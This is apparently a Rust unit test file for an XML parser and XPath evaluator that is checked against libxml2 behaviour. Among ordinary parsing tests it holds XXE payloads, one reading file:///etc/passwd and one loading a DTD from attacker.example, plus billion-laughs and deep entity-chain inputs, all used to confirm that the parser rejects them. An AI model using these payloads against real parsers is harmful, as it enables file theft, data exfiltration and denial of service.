//! Tests for the XML processor and XPath evaluation. Expected values follow libxml2's
//! `xmlNodeGetContent` as v3's `XML:` collection returns it.

use super::*;

fn doc(s: &str) -> XmlDoc {
    parse(s.as_bytes(), &Limits::default()).expect(s)
}

fn eval(d: &XmlDoc, expr: &str) -> Vec<String> {
    let mut out = Vec::new();
    d.xpath(expr, &mut out).expect(expr);
    out.into_iter()
        .map(|v| String::from_utf8_lossy(&v).into_owned())
        .collect()
}

const SOAP: &str = r#"<?xml version="1.0"?>
<root a="1" b="two">
  <user id="7">alice<![CDATA[ <cdata> ]]></user>
  <!-- comment -->
  <user id="8"><name first="Bob">Bob</name> &amp; co</user>
  <?pi data?>
</root>"#;

#[test]
fn root_content_is_all_descendant_text() {
    let d = doc(SOAP);
    let expected = "\n  alice <cdata> \n  \n  Bob & co\n  \n";
    assert_eq!(eval(&d, "/*"), vec![expected]);
    assert_eq!(d.root_text(), expected.as_bytes());
    assert_eq!(eval(&d, "/"), vec![expected]);
    assert_eq!(eval(&d, "/root"), vec![expected]);
}

#[test]
fn all_attributes_in_document_order() {
    let d = doc(SOAP);
    assert_eq!(eval(&d, "//@*"), vec!["1", "two", "7", "8", "Bob"]);
    let direct: Vec<&[u8]> = d.attribute_values().collect();
    assert_eq!(direct, vec![&b"1"[..], b"two", b"7", b"8", b"Bob"]);
}

#[test]
fn simple_paths() {
    let d = doc(SOAP);
    assert_eq!(eval(&d, "/root/user"), vec!["alice <cdata> ", "Bob & co"]);
    assert_eq!(eval(&d, "//user/@id"), vec!["7", "8"]);
    assert_eq!(eval(&d, "//name"), vec!["Bob"]);
    assert_eq!(eval(&d, "//name/@first"), vec!["Bob"]);
    assert_eq!(eval(&d, "/root/@b"), vec!["two"]);
    assert_eq!(eval(&d, "//*").len(), 4);
    // roxmltree merges adjacent text and CDATA (libxml2 would give "alice", " <cdata> ").
    assert_eq!(
        eval(&d, "/root/user/text()"),
        vec!["alice <cdata> ", " & co"]
    );
    assert_eq!(eval(&d, "//comment()"), vec![" comment "]);
    assert_eq!(eval(&d, "//processing-instruction()"), vec!["data"]);
    assert_eq!(eval(&d, "//name/.."), vec!["Bob & co"]);
    assert_eq!(eval(&d, "//@first/.."), vec!["Bob"]);
    assert_eq!(
        eval(&d, "root/user/name"),
        vec!["Bob"],
        "relative paths start at the document"
    );
    assert!(eval(&d, "/nope").is_empty());
    assert!(eval(&d, "//user/@nope").is_empty());
    assert_eq!(eval(&d, "/descendant::name/attribute::first"), vec!["Bob"]);
    assert_eq!(eval(&d, "//user/self::user").len(), 2);
}

#[test]
fn results_are_deduplicated_in_document_order() {
    let d = doc("<a><b><b><c>1</c></b></b><c>2</c></a>");
    assert_eq!(eval(&d, "//b//c"), vec!["1"]);
    assert_eq!(eval(&d, "//c"), vec!["1", "2"]);
    assert_eq!(eval(&d, "//b/.."), vec!["12", "1"]);
}

#[test]
fn namespaces() {
    let d = doc(
        r#"<s:Envelope xmlns:s="urn:soap" xmlns="urn:default" a="1"><s:Body><x k="v">t</x></s:Body></s:Envelope>"#,
    );
    // Namespace declarations are not attributes.
    assert_eq!(eval(&d, "//@*"), vec!["1", "v"]);
    // Unprefixed names match only elements in no namespace.
    assert!(eval(&d, "//x").is_empty());
    assert_eq!(eval(&d, "//*").len(), 3);
    // Unregistered prefix: nothing (libxml2 fails the evaluation).
    assert!(eval(&d, "//s:Body").is_empty());
    let xp = compile_xpath("//s:Body/d:x/@k").unwrap();
    let mut out = Vec::new();
    d.select(&xp, &[("s", "urn:soap"), ("d", "urn:default")], &mut out);
    assert_eq!(out, vec![b"v".to_vec()]);
    let xp = compile_xpath("//d:*").unwrap();
    let mut out = Vec::new();
    d.select(&xp, &[("d", "urn:default")], &mut out);
    assert_eq!(out, vec![b"t".to_vec()]);
}

#[test]
fn entities() {
    let d = doc(
        r#"<!DOCTYPE r [<!ENTITY who "world"><!ENTITY tag "<b>bold</b>">]><r a="&who;">hello &who; &tag; &#65;&#x42;</r>"#,
    );
    assert_eq!(eval(&d, "/*"), vec!["hello world bold AB"]);
    assert_eq!(eval(&d, "//@*"), vec!["world"]);
    assert_eq!(eval(&d, "//b"), vec!["bold"]);
}

#[test]
fn external_entities_are_never_resolved() {
    // libxml2 (as v3 runs it) keeps the reference unresolved: well-formed, no content.
    let d = doc(
        r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>a&xxe;b</foo>"#,
    );
    assert_eq!(eval(&d, "/*"), vec!["ab"]);
    let d = doc(
        r#"<!DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;]><foo>&send;x</foo>"#,
    );
    assert_eq!(eval(&d, "/*"), vec!["x"]);
    let d = doc(r#"<!DOCTYPE foo PUBLIC "-//A//B" "http://example.com/x.dtd"><foo>&nbsp;y</foo>"#);
    assert_eq!(eval(&d, "/*"), vec!["y"]);
}

#[test]
fn billion_laughs_is_rejected() {
    let mut dtd = String::from("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_string()
        } else {
            format!("lol{}", i - 1)
        };
        dtd.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">",
            format!("&{prev};").repeat(10)
        ));
    }
    dtd.push_str("]><lolz>&lol9;</lolz>");
    assert_eq!(
        parse(dtd.as_bytes(), &Limits::default()).unwrap_err(),
        PARSE_ERROR_MSG
    );
}

#[test]
fn invalid_documents() {
    for body in [
        &b""[..],
        b"   ",
        b"<a>",
        b"<a></b>",
        b"<a>&undefined;</a>",
        b"text",
        b"<a x=1/>",
        b"<a/><b/>",
        b"<a>\xff</a>",
        b"<?xml version=\"1.0\"?>",
        b"<!DOCTYPE a [<!ENTITY",
    ] {
        assert_eq!(
            parse(body, &Limits::default()).unwrap_err(),
            "XML parsing error: XML: Failed parsing document.",
            "{:?}",
            String::from_utf8_lossy(body)
        );
    }
    assert!(
        parse_detailed(b"<a>", &Limits::default())
            .unwrap_err()
            .len()
            > 3
    );
}

#[test]
fn encodings() {
    let d = parse(
        b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>caf\xe9</a>",
        &Limits::default(),
    )
    .unwrap();
    assert_eq!(eval(&d, "/*"), vec!["café"]);
    let mut utf16 = vec![0xff, 0xfe];
    for u in "<a b=\"é\">x</a>".encode_utf16() {
        utf16.extend_from_slice(&u.to_le_bytes());
    }
    let d = parse(&utf16, &Limits::default()).unwrap();
    assert_eq!(eval(&d, "//@*"), vec!["é"]);
}

#[test]
fn depth_limits() {
    let nested = |n: usize| "<a>".repeat(n) + "x" + &"</a>".repeat(n);
    assert!(parse(nested(LIBXML2_MAX_DEPTH).as_bytes(), &Limits::default()).is_ok());
    assert!(parse(nested(LIBXML2_MAX_DEPTH + 1).as_bytes(), &Limits::default()).is_err());
    let limits = Limits {
        max_depth: 5,
        ..Limits::default()
    };
    assert!(parse(nested(5).as_bytes(), &limits).is_ok());
    assert!(parse(nested(6).as_bytes(), &limits).is_err());
    // Very deep input is refused before roxmltree (which recurses) sees it.
    let deep = "<a>".repeat(1_000_000);
    assert!(parse(deep.as_bytes(), &Limits::default()).is_err());
    // Deep nesting through entities is bounded as well.
    let ent = format!(
        "<!DOCTYPE r [<!ENTITY e \"{}\">]><r>&e;</r>",
        "<a>".repeat(300) + &"</a>".repeat(300)
    );
    assert!(parse(ent.as_bytes(), &Limits::default()).is_err());
}

#[test]
fn unsupported_xpath_is_an_error_naming_the_expression() {
    let d = doc("<a/>");
    let mut out = Vec::new();
    let e = d.xpath("//a[@x='1']", &mut out).unwrap_err();
    assert!(e.contains("//a[@x='1']"), "{e}");
    assert!(validate_xpath("/*").is_ok());
    assert!(validate_xpath("//@*").is_ok());
    assert!(validate_xpath("count(//a)").is_err());
}

#[test]
fn text_nodes_listing() {
    let d = doc("<a>x<b>y</b>z</a>");
    let t: Vec<&[u8]> = d.text_nodes().collect();
    assert_eq!(t, vec![&b"x"[..], b"y", b"z"]);
    assert_eq!(eval(&d, "//b"), vec!["y"]);
    assert_eq!(eval(&d, "/a/b/text()"), vec!["y"]);
}

#[test]
fn empty_root_element() {
    let d = doc("<a/>");
    assert_eq!(eval(&d, "/*"), vec![""]);
    assert!(eval(&d, "//@*").is_empty());
}

#[test]
fn entity_chains_cannot_exhaust_the_stack() {
    // Each entity value nests up to the limit and references the next one: roxmltree
    // recurses through at most 10 levels of entities, so the whole chain stays bounded.
    let n = LIBXML2_MAX_DEPTH;
    let mut dtd = String::from("<!DOCTYPE r [<!ENTITY e10 \"x\">");
    for i in (1..10).rev() {
        dtd.push_str(&format!(
            "<!ENTITY e{i} \"{}&e{};{}\">",
            "<a>".repeat(n),
            i + 1,
            "</a>".repeat(n)
        ));
    }
    dtd.push_str("]><r>&e1;</r>");
    let handle = std::thread::Builder::new()
        .stack_size(1 << 20)
        .spawn(move || parse(dtd.as_bytes(), &Limits::default()).is_err())
        .expect("spawn");
    assert!(
        handle.join().expect("no stack overflow"),
        "too deep after expansion"
    );
    // The deepest document libxml2 accepts parses on a small stack.
    let nested = "<a>".repeat(LIBXML2_MAX_DEPTH) + &"</a>".repeat(LIBXML2_MAX_DEPTH);
    let handle = std::thread::Builder::new()
        .stack_size(1 << 20)
        .spawn(move || parse(nested.as_bytes(), &Limits::default()).is_ok())
        .expect("spawn");
    assert!(handle.join().expect("no stack overflow"));
}
